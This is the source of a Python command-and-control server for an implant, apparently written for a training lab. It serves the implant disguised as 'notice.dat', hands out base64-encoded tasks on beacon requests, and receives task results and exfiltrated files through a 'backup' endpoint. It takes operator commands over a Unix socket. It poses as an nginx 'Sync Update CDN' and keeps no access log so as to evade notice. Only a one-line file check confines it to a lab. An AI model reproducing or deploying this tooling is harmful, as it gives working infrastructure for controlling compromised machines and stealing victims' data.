#!/usr/bin/env python3
"""The command server: HTTP for implants on port 80, a Unix socket for c2ctl.

  GET  /static/notice.dat           the implant
  GET  /api/v2/status?id=SESSION    a beacon; the answer may carry a task
  POST /api/v2/report?id=&n=TASK    a task's result, JSON
  POST /api/v2/backup?id=&name=     a file
"""

import base64
import json
import pathlib
import socketserver
import sys
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from store import LARGEST_TEXT, LARGEST_UPLOAD, Store

SOCKET = pathlib.Path("/run/c2.sock")
IMPLANT = pathlib.Path("/opt/c2/implant.py")
LONGEST_WAIT = 1800
PAGE = b"<!doctype html><title>Sync Update</title><p>Sync Update CDN</p>\n"


class WebServer(ThreadingHTTPServer):
    """Speaks with implants."""

    daemon_threads = True
    store: Store


class Beacons(BaseHTTPRequestHandler):
    """What implants speak."""

    server: WebServer
    server_version, sys_version = "nginx", ""
    timeout = 30

    def _answer(self, body: bytes, kind: str = "application/json", status: int = 200) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _asked(self) -> tuple[str, dict[str, str]]:
        parts = urllib.parse.urlsplit(self.path)
        query = urllib.parse.parse_qs(parts.query, max_num_fields=8)
        return parts.path, {key: values[0][:120] for key, values in query.items()}

    def do_GET(self) -> None:
        path, query = self._asked()
        if path == "/static/notice.dat":
            self._answer(IMPLANT.read_bytes(), "application/octet-stream")
        elif path == "/api/v2/status" and query.get("id"):
            task = self.server.store.beacon(query["id"], self.client_address[0])
            answer: dict[str, Any] = {"status": "ok"}
            if task:
                answer |= {"n": task[0], "job": base64.b64encode(task[1].encode()).decode(), "limit": task[2]}
            self._answer(json.dumps(answer).encode())
        else:
            self._answer(PAGE, "text/html", 200 if path == "/" else 404)

    def do_POST(self) -> None:
        path, query = self._asked()
        length = self.headers.get("Content-Length", "")
        limit = LARGEST_UPLOAD if path == "/api/v2/backup" else 8 * LARGEST_TEXT
        if not length.isdigit() or int(length) > limit or not query.get("id"):
            self.close_connection = True
            self._answer(b"{}", status=413)
            return
        body = self.rfile.read(int(length))
        try:
            if path == "/api/v2/report":
                self.server.store.report(query["id"], query["n"], json.loads(body))
            elif path == "/api/v2/backup":
                self.server.store.upload(query["id"], query["name"], body)
        except (KeyError, TypeError, ValueError):
            self._answer(b"{}", status=400)
            return
        self._answer(b'{"status": "ok"}')

    def log_message(self, format: str, *args: Any) -> None:
        """The store remembers; the attacker keeps no access log."""


class Orders(socketserver.StreamRequestHandler):
    """What c2ctl speaks: one JSON object in, one out."""

    server: "OrderServer"

    def handle(self) -> None:
        asked = json.loads(self.rfile.readline(4_000_000))
        store, seconds = self.server.store, min(int(asked.get("seconds", 0)), LONGEST_WAIT)
        verb = asked.get("verb")
        answer: Any
        if verb == "run":
            answer = store.run(asked["session"], asked["task"], seconds, asked["script"])
        elif verb == "beacons":
            answer = store.beacons(asked["session"], int(asked["count"]), seconds)
        elif verb == "file":
            answer = store.file(asked["name"], seconds)
        else:
            answer = store.sessions()
        self.wfile.write(json.dumps(answer).encode() + b"\n")


class OrderServer(socketserver.ThreadingUnixStreamServer):
    """Speaks with c2ctl."""

    daemon_threads = True
    store: Store


def main() -> int | str:
    if not pathlib.Path("/etc/cyder-lab").exists():
        return "this is no lab"
    store = Store()
    SOCKET.unlink(missing_ok=True)
    orders = OrderServer(str(SOCKET), Orders)
    SOCKET.chmod(0o600)
    web = WebServer(("0.0.0.0", 80), Beacons)
    orders.store = web.store = store
    threading.Thread(target=orders.serve_forever, daemon=True).start()
    web.serve_forever()
    return 0


if __name__ == "__main__":
    sys.exit(main())
